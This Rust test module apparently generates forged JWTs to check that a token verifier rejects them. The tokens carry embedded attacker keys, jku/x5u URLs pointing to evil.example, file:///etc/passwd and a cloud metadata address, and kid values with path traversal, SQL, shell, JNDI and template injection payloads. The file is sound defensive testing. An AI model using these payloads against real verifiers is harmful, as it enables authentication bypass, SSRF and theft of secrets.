//! Tokens that bring their key along, say where it is, or name it in a way that some readers
//! take for a path, a query or a command.

use serde_json::{Value, json};

use super::Hostile;
use crate::keys::{Key, encode, hmac_signature, key, unsigned};
use crate::tenant::claims;

/// A key that the tenant does not publish.
fn strange() -> &'static Key {
    key("RS384")
}

pub(super) fn all() -> Vec<Hostile> {
    let mut all = in_the_header();
    all.extend(elsewhere());
    all.extend(ids());
    all.extend(of_wrong_type());
    all
}

/// With the id of a key of the tenant, with one of its own, and with none, for which the only
/// RSA key of the tenant stands.
fn forged(name: &str, members: &Value) -> Vec<Hostile> {
    let ids = [
        ("the tenant's id", Some("RS256"), "invalid_signature"),
        ("its own id", Some("evil"), "key_not_found"),
        ("no id", None, "invalid_signature"),
    ];
    let ids = ids.into_iter().map(|(kind, id, code)| {
        let mut header = members.clone();
        header["typ"] = "JWT".into();
        if let Some(id) = id {
            header["kid"] = id.into();
        }
        let token = strange().token("RS256", header, &claims());
        Hostile::new(format!("{name} and {kind}"), token, code)
    });
    ids.collect()
}

fn in_the_header() -> Vec<Hostile> {
    let jwk = strange().json();
    let mut named = jwk.clone();
    named["kid"] = "RS256".into();
    let mut all = Vec::new();
    for (name, members) in [
        ("jwk", json!({"jwk": jwk})),
        ("jwk with the tenant's id", json!({"jwk": named})),
        ("jwk as text", json!({"jwk": jwk.to_string()})),
        ("jwks", json!({"jwks": {"keys": [named]}})),
        ("x5c", json!({"x5c": [encode(jwk.to_string().as_bytes())]})),
        ("x5t", json!({"x5t": "evil", "x5t#S256": "evil"})),
        ("no key", json!({})),
    ] {
        all.extend(forged(name, &members));
    }
    all
}

fn elsewhere() -> Vec<Hostile> {
    let places = [
        "https://evil.example/jwks.json",
        "http://evil.example/jwks.json",
        "https://tenant.example@evil.example/.well-known/jwks.json",
        "https://tenant.example.evil.example/.well-known/jwks.json",
        "https://tenant.example/login?redirect_uri=https://evil.example/jwks.json",
        "//evil.example/jwks.json",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "data:application/json,{}",
    ];
    let mut all = Vec::new();
    for place in places {
        for member in ["jku", "x5u"] {
            let name = format!("{member} {place}");
            all.extend(forged(&name, &json!({member: place})));
        }
    }
    all.extend(forged(
        "jku and jwk",
        &json!({"jku": places[0], "jwk": strange().json()}),
    ));
    all
}

fn ids() -> Vec<Hostile> {
    let ids = [
        "../../../../dev/null".to_owned(),
        "/dev/null".to_owned(),
        "..\\..\\windows\\win.ini".to_owned(),
        "file:///proc/self/environ".to_owned(),
        "https://evil.example/jwks.json".to_owned(),
        "RS256' OR '1'='1".to_owned(),
        "' UNION SELECT 'evil' -- ".to_owned(),
        "RS256; DROP TABLE keys".to_owned(),
        "$(touch evil)".to_owned(),
        "`id`".to_owned(),
        "| cat /etc/passwd".to_owned(),
        "${jndi:ldap://evil.example/a}".to_owned(),
        "{{7*7}}".to_owned(),
        "RS256\0".to_owned(),
        "\0".to_owned(),
        "RS256\n".to_owned(),
        " RS256".to_owned(),
        "rs256".to_owned(),
        "RS25".to_owned(),
        "RS2566".to_owned(),
        "*".to_owned(),
        "%".to_owned(),
        "".to_owned(),
        "0".to_owned(),
        "__proto__".to_owned(),
        "ＲＳ２５６".to_owned(),
        "RS256\u{200b}".to_owned(),
        "\u{202e}652SR".to_owned(),
        "k".repeat(300),
        "k".repeat(40_000),
        "\u{1f980}".repeat(2_000),
    ];
    let mut all = Vec::new();
    for (number, id) in ids.iter().enumerate() {
        let shown: String = id.chars().take(40).collect();
        let token = strange().token("RS256", json!({"kid": id}), &claims());
        let name = format!("kid {number} {shown:?}");
        all.push(Hostile::new(name, token, "key_not_found"));
    }
    // What a file that is empty would have as a key.
    let header = json!({"alg": "HS256", "kid": "../../../dev/null"});
    let message = unsigned(&header, &claims());
    let signature = encode(&hmac_signature("HS256", b"", message.as_bytes()));
    all.push(Hostile::new(
        "kid of an empty file",
        format!("{message}.{signature}"),
        "invalid_algorithm",
    ));
    all
}

fn of_wrong_type() -> Vec<Hostile> {
    let values = [
        json!(null),
        json!(1),
        json!(true),
        json!([]),
        json!(["RS256"]),
        json!({}),
        json!({"$ne": null}),
    ];
    let tokens = values.into_iter().map(|value| {
        let name = format!("kid of the value {value}");
        let token = key("RS256").token("RS256", json!({"kid": value}), &claims());
        Hostile::new(name, token, "token_malformed")
    });
    tokens.collect()
}
